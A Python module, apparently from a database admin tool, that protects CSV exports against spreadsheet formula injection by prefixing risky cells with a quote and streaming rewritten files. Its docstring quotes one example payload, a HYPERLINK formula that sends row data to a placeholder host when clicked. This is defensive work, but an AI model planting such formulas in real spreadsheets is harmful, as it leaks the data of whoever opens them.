"""Spreadsheet-safe CSV: one rule for every CSV a spreadsheet may open (U7).

A cell (or header) that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is evaluated
as a formula by Excel, LibreOffice and Google Sheets (`=HYPERLINK("http://x/?"&A1)` sends
the row away when clicked; DDE payloads run programs). OWASP's rule
(https://owasp.org/www-community/attacks/CSV_Injection) is to prefix such a cell with a single
quote, which the spreadsheet shows as text. The full-width look-alikes (U+FF1D, U+FF0B, U+FF0D,
U+FF20) are prefixed too: some spreadsheet locales normalise them to the ASCII forms.

The cost is exactness: `-5` becomes `'-5`, and NULL and the empty string both become empty, so
the exact CSV (PostgreSQL's own COPY output) stays the default everywhere and this one is offered
beside it, labelled. The audit CSV, the export's "CSV for spreadsheets" (UI and
`petcare-dba export --spreadsheet-safe`) and `petcare-dba sql --format csv --spreadsheet-safe`
all use `cell` below.
"""

from __future__ import annotations

import csv
import io
from typing import IO, Any, BinaryIO

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
CHUNK_ROWS = 5000


def cell(value: Any) -> str:
    """The text of a CSV cell that a spreadsheet shows as text, never evaluates."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(TRIGGERS) else text


def row(values: Any) -> list[str]:
    """Every cell of a row (or a header) through `cell`."""
    return [cell(v) for v in values]


def rewrite(source: IO[bytes], out: BinaryIO, encoding: str = "utf-8") -> int:
    """Copy a CSV (header included) from `source` to `out` with every cell neutralised.

    Streams in chunks of rows, so memory stays bounded; returns the bytes written.
    """
    reader = csv.reader(io.TextIOWrapper(source, encoding=encoding, newline=""))
    written = 0
    buffer = io.StringIO()
    # RFC 4180 line ends: Python's writer quotes a field holding a lone CR only when CR is part
    # of the line terminator, and spreadsheets read CRLF everywhere.
    writer = csv.writer(buffer, lineterminator="\r\n")
    pending = 0
    for values in reader:
        writer.writerow(row(values))
        pending += 1
        if pending >= CHUNK_ROWS:
            written += _flush(buffer, out, encoding)
            pending = 0
    return written + _flush(buffer, out, encoding)


def _flush(buffer: io.StringIO, out: BinaryIO, encoding: str) -> int:
    data = buffer.getvalue().encode(encoding)
    out.write(data)
    buffer.seek(0)
    buffer.truncate()
    return len(data)
